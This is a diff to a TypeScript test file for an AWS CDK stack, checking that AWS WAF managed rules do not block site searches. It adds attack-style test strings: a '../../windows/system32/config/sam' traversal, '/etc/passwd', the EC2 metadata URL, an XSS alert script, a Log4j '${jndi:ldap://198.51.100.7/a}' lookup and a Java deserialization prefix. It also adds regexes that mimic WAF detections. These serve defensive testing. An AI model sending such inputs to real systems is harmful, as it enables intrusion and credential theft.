@@ -1,5 +1,6 @@
 import { Match, Template } from 'aws-cdk-lib/assertions';
 import { edgeHeaders, securityHeadersFor } from '@svc/contracts';
+import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { synthesised } from './synth.ts';
 
@@ -61,7 +62,8 @@ describe('the edge', () => {
     expect(JSON.stringify(api?.OriginCustomHeaders)).toMatch(
       new RegExp(`"HeaderName":"${edgeHeaders.key}".*resolve:secretsmanager:.*:SecretString:EDGE_KEY::`),
     );
-    expect(edgeHeaders.key).not.toMatch(/^x-(edge|amz)-/);
+    // What CloudFront, API Gateway and load balancers write or refuse.
+    for (const header of Object.values(edgeHeaders)) expect(header).not.toMatch(/^x-(edge|amz|amzn|forwarded)-/);
   });
 
   it('reads the bucket of the site, and nobody else does', () => {
@@ -120,6 +122,8 @@ it('answers to a domain of one’s own by TLS 1.2 and newer', () => {
   );
 });
 
+const chapters = readFileSync(new URL('../../frontend/src/features/system/guide/chapters.ts', import.meta.url), 'utf8');
+
 /** AWS WAF Developer Guide, "Baseline rule groups": every rule of the two sets, by what it looks at. */
 const published =
   `NoUserAgent_HEADER UserAgent_BadBots_HEADER SizeRestrictions_QUERYSTRING SizeRestrictions_Cookie_HEADER
@@ -130,6 +134,42 @@ const published =
   CrossSiteScripting_URIPATH JavaDeserializationRCE_HEADER JavaDeserializationRCE_BODY JavaDeserializationRCE_URIPATH
   JavaDeserializationRCE_QUERYSTRING Host_localhost_HEADER PROPFIND_METHOD ExploitablePaths_URIPATH Log4JRCE_HEADER
   Log4JRCE_QUERYSTRING Log4JRCE_BODY Log4JRCE_URIPATH ReactJSRCE_BODY`.split(/\s+/);
+
+/** The searches of the guide, and of those whose logs quote attacks. */
+const searches = [
+  ...[...chapters.matchAll(/\[\s*'((?:`[^`]+` ?)+)',/g)].flatMap(([, cell = '']) =>
+    [...cell.matchAll(/`([^`]+)`/g)].map(([, search = '']) => search),
+  ),
+  'auth.log',
+  '/etc/passwd',
+  '../../windows/system32/config/sam',
+  'http://169.254.169.254/latest/meta-data/',
+  '<script>alert(1)</script>',
+  '${jndi:ldap://198.51.100.7/a}',
+  'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ',
+  'sha256:'.padEnd(3000, '9f86d0'),
+];
+
+/** What a rule looks for, by its name without the part of the request: as the Developer Guide says it, in short. */
+const lookedFor: Readonly<Record<string, RegExp>> = {
+  SizeRestrictions: /^[^]{2049}/,
+  SizeRestrictions_Cookie: /^[^]{10241}/,
+  RestrictedExtensions: /\.(log|ini|bak|conf)\b/i,
+  GenericLFI: /\.\.\/|\/etc\//,
+  GenericRFI: /:\/\/\d+\./,
+  EC2MetaDataSSRF: /169\.254\.169\.254/,
+  CrossSiteScripting: /<script/i,
+  Log4JRCE: /\$\{jndi:/i,
+  JavaDeserializationRCE: /rO0AB/,
+};
+
+/** Whether the rule refuses the request that a page with this search sends: its query, and its address in Referer. */
+function refuses(rule: string, search: string): boolean {
+  const [, what = '', part = ''] = /^(.+)_([A-Z]+)$/.exec(rule) ?? [];
+  // Sizes and agents are of one header each; cookies hold no search.
+  const sees = part.startsWith('QUERY') || (part === 'HEADER' && what.endsWith('RCE'));
+  return sees && (lookedFor[what]?.test(search) ?? false);
+}
 
 interface FirewallRule {
   readonly Name: string;
@@ -165,6 +205,15 @@ it('refuses nothing for its path, query or body: a search for auth.log, or a lon
   expect([...names].filter((name) => !published.includes(name))).toEqual([]);
   const blocking = published.filter((name) => !names.has(name));
   expect(blocking.filter((name) => !/_(HEADER|COOKIE|METHOD)$/.test(name))).toEqual([]);
+  for (const search of searches)
+    expect([search, blocking.filter((rule) => refuses(rule, search))]).toEqual([search, []]);
+});
+
+it('would find a rule that refuses a search', () => {
+  expect(searches.length).toBeGreaterThan(20);
+  expect(published.filter((rule) => refuses(rule, 'auth.log'))).toContain('RestrictedExtensions_QUERYARGUMENTS');
+  expect(published.filter((rule) => refuses(rule, 'x'.repeat(3000)))).toContain('SizeRestrictions_QUERYSTRING');
+  expect(published.filter((rule) => refuses(rule, '${jndi:ldap://198.51.100.7/a}'))).toContain('Log4JRCE_HEADER');
 });
 
 it('keeps the firewall in us-east-1, wherever the rest is', () => {
